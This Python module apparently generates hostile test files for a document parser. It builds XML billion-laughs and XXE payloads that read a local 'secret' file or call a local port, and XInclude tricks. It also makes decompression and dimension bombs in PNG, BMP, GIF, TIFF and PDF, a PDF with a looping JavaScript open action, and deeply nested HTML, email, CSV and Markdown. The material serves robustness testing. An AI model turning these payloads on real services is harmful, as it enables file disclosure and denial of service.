"""Files made to do harm, small each: to unfold, to reach outside, to nest, or to claim what is not there."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'lol'>" + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
BLOWUP = f"<!DOCTYPE a [<!ENTITY b '{'x' * 100_000}'>]>"


def payloads(port: int, secret: str) -> dict[str, tuple[str, str]]:
    """Declarations and the words that use them, by name: what reaches out asks for the file `secret`, or for `port` of this machine."""
    address = f"http://127.0.0.1:{port}/"
    return {
        "billion laughs": (LAUGHS, "&l11;"),
        "quadratic blow-up": (BLOWUP, "&b;" * 20_000),
        "external file": (f"<!DOCTYPE a [<!ENTITY x SYSTEM 'file://{secret}'>]>", "&x;"),
        "external address": (f"<!DOCTYPE a [<!ENTITY x SYSTEM '{address}'>]>", "&x;"),
        "parameter entity": (f"<!DOCTYPE a [<!ENTITY % p SYSTEM '{address}p.dtd'>%p;]>", "words"),
        "external DTD": (f"<!DOCTYPE a SYSTEM '{address}a.dtd'>", "words"),
        "XInclude of a file": ("", f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{secret}' parse='text'/>"),
        "XInclude of an address": ("", f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{address}'/>"),
    }


def repacked(archive: bytes, member: str, change: Callable[[str], str]) -> bytes:
    """The archive with one member changed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            body = source.read(name)
            target.writestr(name, change(body.decode()).encode() if name == member else body)
    return buffer.getvalue()


def declared(xml: str, declaration: str, words: str, place: str) -> str:
    """`xml` with the declaration before its first element, and `words` instead of the text `place`."""
    head, mark, rest = xml.partition("?>") if xml.startswith("<?xml") else ("", "", xml)
    return f"{head}{mark}{declaration}{rest.replace(place, words, 1)}"


def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG of that size, as it says itself, with `chunks` between its head and what passes for its picture."""
    parts = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)),
        *chunks,
        (b"IDAT", zlib.compress(bytes(100))),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in parts
    )


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1, the first of them its catalog."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(body)
    return body + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        table,
        len(objects) + 1,
        start,
    )


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A packed stream object."""
    packed = zlib.compress(content, 9)
    return b"<< /Filter /FlateDecode /Length %d %s >>\nstream\n%s\nendstream" % (len(packed), entries, packed)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>"
_NESTED = 3_000
ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _twice_packed() -> bytes:
    packed = zlib.compress(zlib.compress(bytes(100_000_000), 9), 9)
    return b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed)


def _tiff_of_frames(number: int) -> bytes:
    size = 2 + 12 * 2 + 4
    frames = b"".join(
        struct.pack("<H", 2)
        + struct.pack("<HHII", 256, 4, 1, 1)
        + struct.pack("<HHII", 257, 4, 1, 1)
        + struct.pack("<I", 8 + size * (n + 1) if n + 1 < number else 0)
        for n in range(number)
    )
    return b"II*\0\x08\0\0\0" + frames


def _mail_in_mail(depth: int) -> bytes:
    head = b"From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b%d\n\n--b%d\n"
    return b"".join(head % (n, n) if n == 0 else (head % (n, n)).partition(b"\n")[2] for n in range(depth)) + b"\nwords\n"


BOMBS: dict[str, Callable[[], bytes]] = {
    "wide.png": lambda: png(1, 1_000_000_000),
    "huge.png": lambda: png(60_000, 60_000),
    "words.png": lambda: png(4, 4, (b"zTXt", b"Comment\0\0" + zlib.compress(bytes(30_000_000), 9))),
    "profile.png": lambda: png(4, 4, (b"iCCP", b"icc\0\0" + zlib.compress(bytes(30_000_000), 9))),
    "many words.png": lambda: png(4, 4, *((b"zTXt", b"Comment\0\0" + zlib.compress(bytes(1_000_000), 9)) for _ in range(200))),
    "huge.bmp": lambda: (
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0) + bytes(50)
    ),
    "huge.gif": lambda: (
        b"GIF89a"
        + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0)
        + bytes(6)
        + b","
        + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
        + b"\x02\x02\x4c\x01\0;"
    ),
    "circle.tiff": lambda: b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 4, 1, 64) + struct.pack("<I", 8),
    "frames.tiff": lambda: _tiff_of_frames(100_000),
    "claims pages.pdf": lambda: pdf(CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 99999999 >>", PAGE, stream(b"")),
    "circle of pages.pdf": lambda: pdf(CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>"),
    "huge page.pdf": lambda: pdf(CATALOG, ONE_PAGE, PAGE.replace(b"612 792", b"99999999 99999999"), stream(b"0 0 9 9 re f")),
    "unfolding.pdf": lambda: pdf(CATALOG, ONE_PAGE, PAGE, stream(b"q " * 50_000_000)),
    "twice packed.pdf": lambda: pdf(CATALOG, ONE_PAGE, PAGE, _twice_packed()),
    "nested objects.pdf": lambda: pdf(CATALOG, ONE_PAGE, PAGE, b"[" * 200_000 + b"]" * 200_000),
    "script.pdf": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (while(1){}) >> >>", ONE_PAGE, PAGE, stream(b"")
    ),
    "deep.html": lambda: b"<html><body>" + b"<div>" * 100_000 + b"words " * 20,
    "deep list.html": lambda: b"<html><body>" + b"<ul><li>" * _NESTED + b"words " * 20,
    "attributes.html": lambda: b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(100_000)) + b">" + b"words " * 20,
    "deep data.html": lambda: (
        b"<html><head><script type='application/ld+json'>" + b'{"author":' + b"[" * 900 + b"]" * 900 + b"}</script></head><body>words"
    ),
    "wide data.html": lambda: b"<html><head><script type='application/ld+json'>[" + b"[]," * 500_000 + b"[]]</script></head><body>words",
    "deep.eml": lambda: _mail_in_mail(_NESTED),
    "parts.eml": lambda: b"From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 20_000,
    "alternatives.eml": lambda: (
        b"From: a@example.org\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
        + b"--b\nContent-Type: multipart/alternative; boundary=c\n\n" * 2_000
    ),
    "long header.eml": lambda: b"From: a@example.org\nTo: " + b"a <a@example.org>, " * 50_000 + b"\n\nwords\n",
    "nested comment.eml": lambda: b"From: a@example.org\nTo: " + b"(" * 100_000 + b"\n\nwords\n",
    "headers.eml": lambda: b"From: a@example.org\n" + b"X-A: b\n" * 300_000 + b"\nwords\n",
    "parameters.eml": lambda: b"From: a@example.org\nContent-Type: text/plain; " + b"a=b; " * 40_000 + b"\n\nwords\n",
    "endless line.csv": lambda: b"a," * 1_000_000,
    "quotes.csv": lambda: b"'\"',\"'" * 200_000,
    "endless line.txt": lambda: b"word " * 300_000,
    "spaces.md": lambda: b"# a" + b" " * 90_000 + b"b\n",
    "fences.md": lambda: b"```\n~~~\n" * 20_000,
    "comments.txt": lambda: b"<!---->" * 9_000 + b"x",
}
"""One of each, by the name it is received under; each a few kilobytes to a few megabytes."""
